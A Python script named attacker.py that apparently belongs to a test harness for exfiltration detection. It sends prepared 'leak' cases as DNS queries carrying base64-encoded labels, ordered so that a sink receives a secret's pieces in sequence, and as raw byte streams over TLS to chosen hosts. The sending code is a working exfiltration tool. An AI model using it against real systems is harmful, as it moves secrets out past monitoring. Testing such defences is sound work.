"""Sends prepared leaks: attacker.py FILE. One line of JSON a case tells what came back (for people; the sink judges)."""

import base64
import json
import os
import socket
import ssl
import struct
import sys
from concurrent.futures import ThreadPoolExecutor

TIMEOUT_SECONDS = 5


def nameserver():
    with open("/etc/resolv.conf", encoding="ascii") as file:
        return next(line.split()[1] for line in file if line.startswith("nameserver"))


def ask(labels):
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    query = os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + name + struct.pack("!HH", 1, 1)
    server = nameserver()
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT_SECONDS)
        sock.sendto(query, (server, 53))
        answer = sock.recv(4096)
        return f"rcode {answer[3] & 15}, {answer[7]} answers"


def speak(context, host, steps):
    heard = b""
    with socket.create_connection((host, 443), TIMEOUT_SECONDS) as raw:
        with context.wrap_socket(raw, server_hostname=host) as sock:
            for step in steps:
                sock.sendall(step)
                heard = sock.recv(65536) or heard
    return heard[:200].decode("latin-1")


def run(case, context):
    try:
        if case["kind"] == "dns":
            note = "; ".join(ask([base64.b64decode(label) for label in name]) for name in case["names"])
        else:
            note = speak(context, case["host"], [base64.b64decode(step) for step in case["steps"]])
    except (OSError, ssl.SSLError) as error:
        note = f"{type(error).__name__}: {error}"
    return {"case": case["name"], "note": note}


def main():
    with open(sys.argv[1], encoding="utf-8") as file:
        cases = json.load(file)
    context = ssl.create_default_context(cafile=os.environ.get("SSL_CERT_FILE"))
    # Questions one after another, so that the sink gets a secret's pieces in order; connections beside each other.
    streams = [[case for case in cases if case["kind"] == "dns"], *([case] for case in cases if case["kind"] != "dns")]
    with ThreadPoolExecutor(7) as pool:
        for results in pool.map(lambda some: [run(case, context) for case in some], streams):
            for result in results:
                print("@@" + json.dumps(result), flush=True)


main()
